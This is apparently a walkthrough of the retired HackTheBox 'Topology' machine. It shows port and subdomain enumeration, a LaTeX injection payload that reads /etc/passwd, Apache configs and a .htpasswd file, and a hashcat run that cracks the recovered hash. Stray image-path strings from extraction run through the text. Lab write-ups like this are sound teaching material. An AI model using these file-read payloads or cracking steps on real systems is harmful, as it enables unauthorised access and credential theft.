Topology starts with a website for a Math department at a university with multiple virtual hosts. One has a utility for turning LaTeX text into an image. I’ll exploit an injection to get file read, and get the .htpasswordfile for a dev site, which has a shared password with a user on the box. To get to root, I’ll exploit a cron running gnuplot. In Beyond Root, I’ll look at an unintended filter bypass that allows for getting a shell as www-data by writing a webshell using LaTeX, as well as how one of the images that gnuplot is creating got broken and how to fix it.

Box Info

Name Topology Topology
Play on HackTheBox
Release Date 10 Jun 2023
Retire Date 04 Nov 2023
OS Linux Linux
Base Points Easy [20]
Rated Difficulty Rated difficulty for Topology
Radar Graph Radar chart for Topology
First Blood User 01 hour, 01 mins, 05 seconds Palermo
First Blood Root 01 hour, 19 mins, 00 seconds Palermo
Creator gedsic



nmap finds two open TCP ports, SSH (22) and HTTP (80):

oxdf@hacky$ nmap -p- --min-rate 10000
Starting Nmap 7.80 ( ) at 2023-09-06 17:47 EDT
Nmap scan report for
Host is up (0.091s latency).
Not shown: 65533 closed ports
22/tcp open  ssh
80/tcp open  http

Nmap done: 1 IP address (1 host up) scanned in 6.94 seconds
oxdf@hacky$ nmap -p 22,80 -sCV
Starting Nmap 7.80 ( ) at 2023-09-06 17:47 EDT
Nmap scan report for
Host is up (0.091s latency).

22/tcp open  ssh     OpenSSH 8.2p1 Ubuntu 4ubuntu0.7 (Ubuntu Linux; protocol 2.0)80/tcp open  http    Apache httpd 2.4.41 ((Ubuntu))
|_http-server-header: Apache/2.4.41 (Ubuntu)
|_http-title: Miskatonic University | Topology Group
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 10.08 seconds

Based on the OpenSSH and Apache versions, the host is likely running Ubuntu 20.04 focal.

Website - TCP 80


The site is for a mathematics department at a university:

image-20230906175002708 expand

All of the links on the page except one are just to this same page. The one is for the “LaTeX Equation Generator”, which points at latex.topology.htb/equation.php. There’s an email address (lklein@topology.htb) that also uses the topology.htb domain. I’ll want to fuzz the site for subdomains.

Tech Stack

The HTTP response headers don’t show anything beyond Apache:

HTTP/1.1 200 OK
Date: Wed, 06 Sep 2023 21:49:08 GMT
Server: Apache/2.4.41 (Ubuntu)
Last-Modified: Tue, 17 Jan 2023 17:26:29 GMT
ETag: "1a6f-5f27900124a8b-gzip"
Accept-Ranges: bytes
Vary: Accept-Encoding
Content-Length: 6767
Connection: close
Content-Type: text/html

The 404 page is the Apache 404 page as well:Guessing at extensions for the index page, it loads as index.html. This site is looking very static.

Directory Brute Force

I’ll run feroxbuster against the site, and include -x html since I’ve seen that extension:

oxdf@hacky$ feroxbuster -u -x html

 ___  ___  __   __     __      __         __   ___
|__  |__  |__) |__) | /  `    /  \ \_/ | |  \ |__
|    |___ |  \ |  \ | \__,    \__/ / \ | |__/ |___
by Ben "epi" Risher                  ver: 2.9.3
   Target Url            │
   Threads               │ 50
   Wordlist              │ /usr/share/seclists/Discovery/Web-Content/raft-medium-directories.txt
   Status Codes          │ All Status Codes!
   Timeout (secs)        │ 7
   User-Agent            │ feroxbuster/2.9.3
   Config File           │ /etc/feroxbuster/ferox-config.toml
   Extensions            │ [html]
   HTTP methods          │ [GET]
   Recursion Depth       │ 4
   New Version Available │
   Press [ENTER] to use the Scan Management Menu™
404      GET        9l       31w      274c Auto-filtering found 404-like response and created new filter; toggle off with --dont-filter
403      GET        9l       28w      277c Auto-filtering found 404-like response and created new filter; toggle off with --dont-filter
301      GET        9l       28w      313c =>
200      GET      174l      545w     6767c
301      GET        9l       28w      310c =>
301      GET        9l       28w      317c =>
200      GET      174l      545w     6767c301      GET        9l       28w      324c =>
200      GET    10365l    41507w   271809c
[###] - 1h    150000/150000  0s      found:7       errors:52383
[###] - 1h     30000/30000   6/s
[###] - 1s     30000/30000   0/s => Directory listing (remove --dont-extract-links to scan)
[###] - 1s     30000/30000   0/s => Directory listing (remove --dont-extract-links to scan)
[###] - 1h     30000/30000   6/s
[###] - 1h     30000/30000   6/s

Nothing interesting here.

Subdomain Brute Force

Given the use of subdomains, I’ll use ffuf to brute force others to see if it changes the response from the site:

oxdf@hacky$ffuf -u -H "Host: FUZZ.topology.htb" -w /opt/SecLists/Discovery/DNS/subdomains-top1million-5000.txt -mc all -ac

        /'___\  /'___\           /'___\
       /\ \__/ /\ \__/  __  __  /\ \__/
       \ \ ,__\\ \ ,__\/\ \/\ \ \ \ ,__\
        \ \ \_/ \ \ \_/\ \ \_\ \ \ \ \_/
         \ \_\   \ \_\  \ \____/  \ \_\
          \/_/    \/_/   \/___/    \/_/


 :: Method           : GET
 :: URL              :
 :: Wordlist         : FUZZ: /opt/SecLists/Discovery/DNS/subdomains-top1million-5000.txt
 :: Header           : Host: FUZZ.topology.htb
 :: Follow redirects : false
 :: Calibration      : true
 :: Timeout          : 10
 :: Threads          : 40
 :: Matcher          : Response status: all

dev                     [Status: 401, Size: 463, Words: 42, Lines: 15, Duration: 3737ms]stats                   [Status: 200, Size: 108, Words: 5, Lines: 6, Duration: 2302ms]
:: Progress: [4989/4989] :: Job [1/1] :: 11 req/sec :: Duration: [0:06:20] :: Errors: 0 ::

It finds stats and dev. I’ll add these along with the latex one from the link in the page to my local /etc/hosts file: topology.htb latex.topology.htb dev.topology.htb stats.topology.htb


Visiting this page pops HTTP basic auth:I’ll try admin / admin, but it doesn’t work.


This page has a broken image and a graph image:


The images load out of /files, which has listing enabled:


network.png is present, but 0 bytes. That’s weird. I’ll also note that the time stamps are from this minute.Something must be updating them.

The tech stack seems the same, and feroxbuster doesn’t find anything interesting.

I’ll look at the broken image in Beyond Root.


The root for this virtual host is just a directory listing:


equation.php is the page linked to from the main site. It has a LaTeX Equation Generator page:


LaTeX is a language for writing code the converts to mathematical glyphs.

Submitting one of the examples (\frac{x+5}{y-3}) returns a PNGimage of the result:


equationtest.tex is a LateX file, likely used for testing:


$ \int_{a}^b\int_{c}^d f(x,y)dxdy $


\input{header} imports the header.tex file:

% vdaisley's default latex header for beautiful documents
\usepackage[utf8]{inputenc} % set input encoding
\usepackage{graphicx} % for graphic files
\usepackage{eurosym} % euro currency symbol
\usepackage{times} % set nice font, tex default font is not my style
\usepackage{listings} % include source code files or print inline code
\usepackage{hyperref} % for clickable links in pdfs
\usepackage{mathtools,amssymb,amsthm} % more default math packages
\usepackage{mathptmx} % math mode with times font

The listings package seems interesting as it can “include” (presumably read) files.Shell as vdaisley

LaTeX Injection

Blocklisted Function

The HackTricks page on LaTeX injection has a bunch of methods for getting file read and execution. The most basic is the \write18{command} construct, which I showed back on Chaos. If I try to send something like \write18{id} via the form in the page above, it returns an error:


It’s interesting that the error message comes back in the PNG. This makes it hard to fuzz (though not impossible). Other methods like \input{/etc/passwd} and trying to write a file with \write also get blocked. Ippsec came up with a very clever idea for bypassing this filter. I’ll go into this and unintended solutions in Beyond Root.

File Read with listings

This page documents the listings package, where the “Importing code from a file” section is of interest. Something like \lstinputlisting{filename} will include an image of the content of that file.

Submitting \lstinputlisting{/etc/passwd} fails:


Looking in Burp, it is returning an empty response. The page says:Please enter LaTeX inline math mode syntax in the text field (only oneliners supported at the moment).

This tex stackexchange answer says that for in-line mode, the equation is enclosed between $ characters. So presumably the site is adding $ before and after my input. I need to break out of those, so I’ll put them before and after, like $\lstinputlisting{/etc/passwd}$. It works:


Access to dev

Enumerate VHosts

With file read, one useful thing to look at is the Apache configuration. The default location is /etc/apache2/sites-enabled/000-default.conf


This shows four hosts, all with admin email of vdaisley@topology.htb:• topology.htb - root in /var/www/html
  • latex.topology.htb - root in /var/www/latex
  • dev.topology.htb - root in /var/www/dev
  • stats.topology.htb - root in /var/www/stats

There’s not much going on with any of the servers.

Get Password Hash

The dev site required auth. Typically on Apache if the site password isn’t configured in the server config, it’s configured via an .htaccess file. Reading /var/www/dev/.htaccess returns:


The AuthUserFile defines that access. Reading /var/www/dev/.htpasswd shows the hash:


I’ll use an online OCR site to get this most of the way, checking each character manually to makesure it’s correct:


Crack Hash

I’ll feed this into hashcat and it cracks immediately:

$ hashcat vdaisley.hash --username /opt/SecLists/Passwords/Leaked-Databases/rockyou.txt
hashcat (v6.2.6) starting in autodetect mode
Hash-mode was not specified with -m. Attempting to auto-detect hash mode.
The following mode was auto-detected as the only one matching your input hash:

1600 | Apache $apr1$ MD5, md5apr1, MD5 (APR) | FTP, HTTP, SMTP, LDAP Server

The password is “calculus20”.

That gets me into the dev.topology.htb site.

